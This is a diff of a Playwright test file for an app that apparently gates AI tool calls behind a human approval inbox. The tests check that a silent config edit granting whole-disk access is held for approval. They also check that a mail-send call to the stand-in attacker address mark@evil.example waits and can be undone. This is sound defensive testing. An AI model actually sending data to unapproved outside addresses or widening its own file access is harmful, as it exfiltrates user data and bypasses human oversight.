@@ -1,5 +1,6 @@
 /** Inbox items: shown in full, decided by mouse and by keyboard, listed in the history, undone. */
 import { expect, type Page, test as plain } from '@playwright/test';
+import { settingConsequences } from '../../src-main/core/trust/inbox/entry-consequences.ts';
 import { fixtureCommand } from '../fixtures/spawn-fixture.ts';
 import { tabTo } from './keyboard.ts';
 import { expectNoBarrier } from './no-barrier.ts';
@@ -160,8 +161,8 @@ test('holds another program’s edit of the config file, with what it would reac
   await core.put('own/config.json', { mode: 'search', servers: { disk: { command, args: [...args, '/'] } } });
   await page.goto(core.at('inbox/server/disk'));
   const item = page.getByRole('article');
-  await expect(item).toContainText('Another program wrote it into the config file.');
-  await expect(item).toContainText('Gains access to your whole disk.');
+  const [reach] = settingConsequences('results.folders', ['/']);
+  await expect(item).toContainText(reach?.text ?? 'No consequence.');
   await item.getByRole('button', { name: 'Approve' }).click();
   await expect(said(page, 'The config file was changed outside of Tooltray')).toBeVisible();
   await page.goto(core.at('servers'));
@@ -186,7 +187,7 @@ plain('a call that sends to where only an answer led waits; "always" is kept, an
   await page.goto(core.at('inbox'));
   const item = page.getByRole('article');
   // By its display name, not by its reported name.
-  await expect(item).toContainText('Claude Desktop wants to send to mark@evil.example');
+  await expect(item).toContainText(/Claude Desktop .*mark@evil\.example/);
   await expect(item).not.toContainText('claude-desktop');
   await expect(item).toContainText('Rejected automatically at');
   const always = item.getByRole('button', { name: 'Always for this destination' });
@@ -199,9 +200,9 @@ plain('a call that sends to where only an answer led waits; "always" is kept, an
   expect(await app.call('mail_send_email', { to: 'mark@evil.example', body: 'again' })).toContain('Done.');
 
   // Undo is available immediately, and stays in the history.
-  await expect(said(page, 'mail may send to mark@evil.example without approval.')).toBeVisible();
+  await expect(said(page, 'mark@evil.example')).toBeVisible();
   await page.keyboard.press('u');
-  await expect(said(page, 'mail may send')).toBeHidden();
+  await expect(said(page, 'mark@evil.example')).toBeHidden();
   await page.getByRole('tab', { name: 'History' }).click();
   await expect(page.getByText('No decisions yet')).toBeVisible();
   await page.getByRole('tab', { name: 'Pending' }).click();
@@ -209,7 +210,7 @@ plain('a call that sends to where only an answer led waits; "always" is kept, an
   await item.getByRole('button', { name: 'Always for this destination' }).click();
   expect(await asked).toContain('Done.');
   await page.getByRole('tab', { name: 'History' }).click();
-  await page.getByRole('button', { name: 'Undo: mail may send to mark@evil.example without approval.' }).click();
+  await page.getByRole('button', { name: /^Undo: .*mark@evil\.example/ }).click();
   await expect(page.getByText('No decisions yet')).toBeVisible();
 });
 
